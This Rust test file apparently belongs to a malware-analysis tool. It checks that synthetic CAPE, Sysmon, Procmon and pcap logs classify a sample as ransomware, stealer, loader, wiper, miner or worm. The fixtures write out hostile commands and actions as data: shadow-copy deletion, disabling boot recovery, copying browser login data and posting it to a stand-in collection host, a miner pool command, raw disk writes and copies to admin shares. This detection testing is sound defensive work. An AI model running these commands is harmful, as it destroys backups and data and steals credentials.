//! Class hints from log activity (`data/class-hints.txt`, `event`/`events`/`activity`
//! lines): logs written by the tests (a CAPE report, Sysmon records) give a sample with no
//! static class its class, with evidence naming the log and the record; the hint reaches the
//! report, STIX `malware_types` and the MISP tags; a benign corpus log gives no class.

use serde_json::{json, Value};
use spoor::analyze::{analyze, AnalyzeOptions};
use std::path::{Path, PathBuf};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// A benign corpus program (no static class) copied into `dir`, and its SHA-256.
fn sample(dir: &Path) -> (PathBuf, String) {
    let data = std::fs::read(root().join("corpus/benign/built/backupd_x64.exe")).expect("sample");
    let t = spoor::sample::triage("backupd.exe", &data);
    assert!(t.classes.is_empty(), "{:?}", t.classes);
    let path = dir.join("backupd.exe");
    std::fs::write(&path, &data).expect("copy");
    (path, t.hashes.sha256)
}

fn call(api: &str, args: &[(&str, &str)]) -> Value {
    json!({
        "timestamp": "2024-03-12 11:00:00.003",
        "api": api,
        "status": true,
        "arguments": args.iter().map(|(n, v)| json!({"name": n, "value": v})).collect::<Vec<_>>(),
    })
}

/// A CAPE report for the sample with the hash `sha256`: `calls` in one process and the
/// summary's executed commands.
fn cape(sha256: &str, calls: Vec<Value>, commands: &[&str]) -> String {
    json!({
        "info": {"id": 7, "package": "exe"},
        "target": {"category": "file", "file": {"name": "backupd.exe", "sha256": sha256}},
        "behavior": {
            "processes": [{
                "process_id": 2940,
                "process_name": "backupd.exe",
                "parent_id": 4012,
                "module_path": "C:\\Users\\alice\\AppData\\Local\\Temp\\backupd.exe",
                "calls": calls,
            }],
            "summary": {"executed_commands": commands},
        },
    })
    .to_string()
}

fn classes_of(sample: &Path, logs: &[PathBuf]) -> Vec<spoor::sample::classes::ClassHint> {
    let a = analyze(&[sample.to_path_buf()], logs, &AnalyzeOptions::default());
    assert_eq!(a.samples.len(), 1);
    a.samples[0].classes.clone()
}

#[test]
fn cape_shadow_copy_deletion_and_mass_renames_make_ransomware() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (exe, sha256) = sample(dir.path());
    let renames: Vec<Value> = (0..30)
        .map(|i| {
            call(
                "MoveFileWithProgressW",
                &[
                    (
                        "ExistingFileName",
                        &format!("C:\\Users\\alice\\Documents\\r{i}.docx"),
                    ),
                    (
                        "NewFileName",
                        &format!("C:\\Users\\alice\\Documents\\r{i}.docx.locked"),
                    ),
                ],
            )
        })
        .collect();
    let log = dir.path().join("cape.json");
    std::fs::write(
        &log,
        cape(
            &sha256,
            renames,
            &["vssadmin.exe Delete Shadows /All /Quiet"],
        ),
    )
    .expect("write log");
    let hints = classes_of(&exe, std::slice::from_ref(&log));
    let ransom = hints
        .iter()
        .find(|h| h.class == "ransomware")
        .unwrap_or_else(|| panic!("{hints:?}"));
    assert_eq!(ransom.confidence.as_str(), "high", "{ransom:?}");
    assert!(
        ransom
            .evidence
            .iter()
            .any(|e| e.contains("cape.json record")
                && e.contains("process_create")
                && e.contains("Delete Shadows")),
        "{:?}",
        ransom.evidence
    );
    assert!(
        ransom
            .evidence
            .iter()
            .any(|e| e.starts_with("30 file_rename events")),
        "{:?}",
        ransom.evidence
    );

    // Shadow copies alone: medium. A log naming another sample's hash: no class for this one.
    std::fs::write(
        &log,
        cape(
            &sha256,
            Vec::new(),
            &["vssadmin.exe Delete Shadows /All /Quiet"],
        ),
    )
    .expect("write log");
    let hints = classes_of(&exe, std::slice::from_ref(&log));
    assert_eq!(hints.len(), 1, "{hints:?}");
    assert_eq!(
        (hints[0].class.as_str(), hints[0].confidence.as_str()),
        ("ransomware", "medium")
    );
    std::fs::write(
        &log,
        cape(
            &"0".repeat(64),
            Vec::new(),
            &["vssadmin.exe Delete Shadows /All /Quiet"],
        ),
    )
    .expect("write log");
    assert!(classes_of(&exe, std::slice::from_ref(&log)).is_empty());
}

#[test]
fn cape_credential_reads_and_traffic_make_a_stealer() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (exe, sha256) = sample(dir.path());
    let calls = vec![
        call(
            "CopyFileW",
            &[
                (
                    "ExistingFileName",
                    "C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
                ),
                ("NewFileName", "C:\\Users\\alice\\AppData\\Local\\Temp\\ld.tmp"),
            ],
        ),
        call(
            "InternetConnectA",
            &[("ServerName", "collect.example.net"), ("ServerPort", "443")],
        ),
        call(
            "HttpOpenRequestA",
            &[("Verb", "POST"), ("Path", "/gate.php")],
        ),
    ];
    let log = dir.path().join("cape.json");
    std::fs::write(&log, cape(&sha256, calls, &[])).expect("write log");
    let a = analyze(
        std::slice::from_ref(&exe),
        std::slice::from_ref(&log),
        &AnalyzeOptions::default(),
    );
    let actions: Vec<&String> = a.dynamic.actions.keys().collect();
    let hints = &a.samples[0].classes;
    let stealer = hints
        .iter()
        .find(|h| h.class == "stealer")
        .unwrap_or_else(|| panic!("{hints:?}; actions {actions:?}"));
    assert!(
        stealer.evidence.iter().any(|e| e.contains("Login Data")),
        "{:?}",
        stealer.evidence
    );
}

/// Sysmon records (winlogbeat NDJSON) of a file written, then run, after a DNS query, with a
/// Run key set: a loader. The same records without the run: no class.
#[test]
fn sysmon_download_then_execute_makes_a_loader() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (exe, _) = sample(dir.path());
    let dropped = "C:\\Users\\alice\\AppData\\Roaming\\svc\\upd.exe";
    let record = |id: u32, rid: u32, data: Value| {
        json!({
            "@timestamp": "2024-03-12T09:14:03.161Z",
            "event": {"code": id.to_string(), "module": "sysmon", "provider": "Microsoft-Windows-Sysmon"},
            "winlog": {
                "channel": "Microsoft-Windows-Sysmon/Operational",
                "event_id": id.to_string(),
                "provider_name": "Microsoft-Windows-Sysmon",
                "record_id": rid.to_string(),
                "event_data": data,
            },
        })
        .to_string()
    };
    let me = "C:\\Users\\alice\\Downloads\\backupd.exe";
    let dns = record(
        22,
        1,
        json!({"ProcessId": "4216", "Image": me, "QueryName": "cdn.example.com", "QueryResults": "192.0.2.10;"}),
    );
    let write = record(
        11,
        2,
        json!({"ProcessId": "4216", "Image": me, "TargetFilename": dropped}),
    );
    let run_key = record(
        13,
        3,
        json!({"ProcessId": "4216", "Image": me, "EventType": "SetValue",
               "TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
               "Details": dropped}),
    );
    let start = record(
        1,
        4,
        json!({"ProcessId": "5120", "Image": dropped, "CommandLine": format!("\"{dropped}\" /s"),
               "ParentProcessId": "4216", "ParentImage": me}),
    );
    let log = dir.path().join("sysmon.ndjson");
    std::fs::write(
        &log,
        [dns.clone(), write.clone(), run_key.clone(), start].join("\n"),
    )
    .expect("write log");
    let hints = classes_of(&exe, std::slice::from_ref(&log));
    let loader = hints
        .iter()
        .find(|h| h.class == "loader")
        .unwrap_or_else(|| panic!("{hints:?}"));
    assert!(
        loader
            .evidence
            .iter()
            .any(|e| e.contains("a written file run") && e.contains("sysmon.ndjson record")),
        "{:?}",
        loader.evidence
    );
    std::fs::write(&log, [dns, write, run_key].join("\n")).expect("write log");
    assert!(classes_of(&exe, std::slice::from_ref(&log)).is_empty());
}

/// The hint reaches the outputs where static hints go: the report overview, STIX
/// `malware_types`, the MISP tag.
#[test]
fn a_log_class_reaches_report_stix_and_misp() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (_, sha256) = sample(dir.path());
    std::fs::write(
        dir.path().join("cape.json"),
        cape(
            &sha256,
            Vec::new(),
            &[
                "wmic.exe shadowcopy delete",
                "bcdedit.exe /set {default} recoveryenabled No",
            ],
        ),
    )
    .expect("write log");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_spoor"))
        .args([
            "analyze",
            "-o",
            "out",
            "--date",
            "2026-11-25",
            "backupd.exe",
            "--logs",
            "cape.json",
        ])
        .current_dir(dir.path())
        .output()
        .expect("run spoor");
    assert!(
        out.status.code().is_some_and(|c| c <= 1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let read = |n: &str| std::fs::read_to_string(dir.path().join("out").join(n)).expect(n);
    assert!(read("report.md").contains("ransomware"));
    let stix: Value = serde_json::from_str(&read("bundle.stix.json")).expect("stix");
    let types: Vec<&Value> = stix["objects"]
        .as_array()
        .expect("objects")
        .iter()
        .filter(|o| o["type"] == "malware")
        .flat_map(|o| o["malware_types"].as_array().into_iter().flatten())
        .collect();
    assert!(types.iter().any(|t| *t == "ransomware"), "{types:?}");
    assert!(read("event.misp.json").contains("malware-category=\\\"Ransomware\\\""));
}

/// The benign corpus logs give the sample no class.
#[test]
fn benign_logs_give_no_class() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (exe, _) = sample(dir.path());
    let logs = vec![root().join("corpus/benign-logs")];
    let hints = classes_of(&exe, &logs);
    assert!(hints.is_empty(), "{hints:?}");
}

/// One CAPE report each: a raw disk write (wiper), a miner's command line (miner), a copy to
/// an administrative share (worm); each gives its class from the log alone.
#[test]
fn cape_disk_writes_pools_and_shares() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (exe, sha256) = sample(dir.path());
    let cases: [(&str, Vec<Value>, &[&str]); 3] = [
        (
            "wiper",
            vec![call(
                "NtWriteFile",
                &[("FileName", "\\\\.\\PhysicalDrive0"), ("Length", "512")],
            )],
            &[],
        ),
        (
            "miner",
            Vec::new(),
            &["xmrig.exe -o stratum+tcp://pool.example.org:3333 -u 4Abc --donate-level 1"],
        ),
        (
            "worm",
            vec![call(
                "CopyFileW",
                &[
                    (
                        "ExistingFileName",
                        "C:\\Users\\alice\\AppData\\Local\\Temp\\backupd.exe",
                    ),
                    ("NewFileName", "\\\\fileserver\\ADMIN$\\backupd.exe"),
                ],
            )],
            &[],
        ),
    ];
    let log = dir.path().join("cape.json");
    for (class, calls, commands) in cases {
        std::fs::write(&log, cape(&sha256, calls, commands)).expect("write log");
        let hints = classes_of(&exe, std::slice::from_ref(&log));
        let names: Vec<&str> = hints.iter().map(|h| h.class.as_str()).collect();
        assert_eq!(names, [class], "{hints:?}");
        assert!(
            hints[0]
                .evidence
                .iter()
                .any(|e| e.contains("cape.json record")),
            "{hints:?}"
        );
    }
}

/// One Procmon row by the sample's process: PID, operation, path, detail.
fn row(pid: &str, operation: &str, path: &str, detail: &str) -> [String; 4] {
    [pid, operation, path, detail].map(str::to_string)
}

/// A Procmon CSV export with the columns Procmon writes by default (UTF-8 with a BOM, every
/// cell quoted, CRLF), one line per row, the sample's own start first.
fn procmon(rows: &[[String; 4]]) -> String {
    let start = row(
        "2940",
        "Process Start",
        "",
        "Parent PID: 4012, Command line: \"C:\\Users\\alice\\Downloads\\backupd.exe\", Current directory: C:\\Users\\alice\\Downloads\\, Environment: ",
    );
    let mut out = String::from(
        "\u{feff}\"Time of Day\",\"Process Name\",\"PID\",\"Operation\",\"Path\",\"Result\",\"Detail\"\r\n",
    );
    for (i, [pid, op, path, detail]) in std::iter::once(&start).chain(rows).enumerate() {
        out.push_str(&format!(
            "\"1:05:{:02}.{:07} PM\",\"backupd.exe\",\"{pid}\",\"{op}\",\"{path}\",\"SUCCESS\",\"{}\"\r\n",
            i / 100,
            (i % 100) * 1000,
            detail.replace('"', "\"\"")
        ));
    }
    out
}

/// `n` documents renamed, as Procmon writes a rename.
fn renames(n: usize) -> Vec<[String; 4]> {
    (0..n)
        .map(|i| {
            let path = format!("C:\\Users\\alice\\Documents\\report-{i}.docx");
            let detail = format!("ReplaceIfExists: False, FileName: {path}.locked");
            row("2940", "SetRenameInformationFile", &path, &detail)
        })
        .collect()
}

/// A Procmon capture of shadow copies deleted and 30 documents renamed: ransomware, with the
/// Procmon file named in the evidence. 24 renames and no deletion: no class.
#[test]
fn procmon_shadow_copy_deletion_and_mass_renames_make_ransomware() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (exe, _) = sample(dir.path());
    let mut rows = vec![row(
        "2940",
        "Process Create",
        "C:\\Windows\\System32\\vssadmin.exe",
        "PID: 3100, Command line: vssadmin.exe delete shadows /all /quiet",
    )];
    rows.extend(renames(30));
    let log = dir.path().join("procmon.csv");
    std::fs::write(&log, procmon(&rows)).expect("write log");
    let hints = classes_of(&exe, std::slice::from_ref(&log));
    let ransomware = hints
        .iter()
        .find(|h| h.class == "ransomware")
        .unwrap_or_else(|| panic!("{hints:?}"));
    assert_eq!(ransomware.confidence.to_string(), "high", "{ransomware:?}");
    // The hint is a sign of the verdict (one sign alone is still no verdict).
    let a = analyze(
        std::slice::from_ref(&exe),
        std::slice::from_ref(&log),
        &AnalyzeOptions::default(),
    );
    let signs = &a.samples[0].verdict.signs;
    assert!(
        signs
            .iter()
            .any(|s| s.starts_with("ransomware hint (high)")),
        "{signs:?}"
    );
    let evidence = ransomware.evidence.join("\n");
    assert!(
        evidence.contains("procmon.csv") && evidence.contains("delete shadows"),
        "{evidence}"
    );
    assert!(evidence.contains("file_rename"), "{evidence}");
    // 24 renames, no shadow copies deleted: below every `need` of the class.
    std::fs::write(&log, procmon(&renames(24))).expect("write log");
    let hints = classes_of(&exe, std::slice::from_ref(&log));
    assert!(hints.is_empty(), "{hints:?}");
}

/// A Procmon capture that reads the browser's saved logins and a pcap of the same session
/// with an HTTP POST: a stealer, with evidence from both logs. The Procmon capture alone
/// (no traffic) gives no class.
#[test]
fn procmon_credential_reads_and_pcap_traffic_make_a_stealer() {
    use super::logs::{ipv4, pcap, tcp, GUEST, SERVER};
    let dir = tempfile::tempdir().expect("tempdir");
    let (exe, _) = sample(dir.path());
    let logins = "C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data";
    let rows = [
        row(
            "2940",
            "CreateFile",
            logins,
            "Desired Access: Generic Read, Disposition: Open, Options: Synchronous IO Non-Alert, Non-Directory File, Attributes: n/a, ShareMode: Read, Write, AllocationSize: n/a, OpenResult: Opened",
        ),
        row(
            "2940",
            "ReadFile",
            logins,
            "Offset: 0, Length: 4,096, Priority: Normal",
        ),
    ];
    let procmon_log = dir.path().join("procmon.csv");
    std::fs::write(&procmon_log, procmon(&rows)).expect("write log");
    let post = b"POST /gate.php HTTP/1.1\r\nHost: collect.example.net\r\nContent-Type: application/octet-stream\r\nContent-Length: 4\r\n\r\nAAAA";
    let frames = vec![
        ipv4(6, GUEST, SERVER, &tcp(50001, 80, 0x02, &[])),
        ipv4(6, GUEST, SERVER, &tcp(50001, 80, 0x18, post)),
    ];
    let pcap_log = dir.path().join("session.pcap");
    std::fs::write(&pcap_log, pcap(&frames)).expect("write pcap");
    let hints = classes_of(&exe, &[procmon_log.clone(), pcap_log]);
    let stealer = hints
        .iter()
        .find(|h| h.class == "stealer")
        .unwrap_or_else(|| panic!("{hints:?}"));
    let evidence = stealer.evidence.join("\n");
    assert!(
        evidence.contains("procmon.csv") && evidence.contains("Login Data"),
        "{evidence}"
    );
    assert!(
        evidence.contains("session.pcap") && evidence.contains("collect.example.net"),
        "{evidence}"
    );
    let hints = classes_of(&exe, std::slice::from_ref(&procmon_log));
    assert!(hints.is_empty(), "{hints:?}");
}
